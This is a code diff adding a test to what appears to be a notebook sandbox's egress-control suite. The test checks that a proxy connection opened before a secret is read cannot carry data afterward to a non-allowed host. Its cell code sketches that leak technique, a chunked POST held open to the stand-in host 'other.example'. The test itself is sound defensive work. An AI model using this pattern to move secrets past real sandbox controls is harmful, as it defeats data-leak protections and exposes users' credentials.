@@ -66,6 +66,26 @@ def test_a_secret_is_handed_over_and_confines(jobs: Jobs, level: str, who: str) 
 
 
 @each_case
+def test_a_connection_opened_before_a_secret_carries_nothing_after_it(jobs: Jobs, level: str, who: str) -> None:
+    permissions = HOSTS + '[secrets.GRANTED]\nhosts = ["allowed.example"]\n'
+    cells = [
+        "import os, socket\nfrom google.colab import userdata\n"
+        "proxy = os.environ['HTTP_PROXY'].split('//')[1].split(':')\n"
+        "def begin(host):\n    s = socket.create_connection((proxy[0], int(proxy[1])), 10)\n"
+        "    s.sendall(f'POST http://{host}/x HTTP/1.1\\r\\nHost: {host}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nEARLY\\r\\n'.encode())\n"
+        "    return s\nother, allowed = begin('other.example'), begin('allowed.example')\nimport time; time.sleep(0.5)",
+        "v = userdata.get('GRANTED')\nfor s in (other, allowed):\n    try:\n        s.sendall(b'4\\r\\nLATE\\r\\n0\\r\\n\\r\\n'); s.settimeout(3)\n"
+        "        while s.recv(4096): pass\n    except OSError: pass\nprint('sent')",
+    ]
+    ran = jobs.run(cells, level=level, who=who, permissions=permissions)
+    other = [text for text in ran.world["web"] if "Host: other.example" in text]
+    allowed = [text for text in ran.world["web"] if "Host: allowed.example" in text]
+    assert len(other) == len(allowed) == 1 and "EARLY" in other[0] and "EARLY" in allowed[0]
+    assert "LATE" in allowed[0] and "LATE" not in other[0]
+    assert "was open when a secret" in str(ran.events("host", "other.example", 1))
+
+
+@each_case
 def test_the_message_names_the_line_to_add(jobs: Jobs, level: str, who: str) -> None:
     ran = jobs.run(
         ["import urllib.request\nurllib.request.urlopen('http://new.example/', timeout=9)"], level=level, who=who
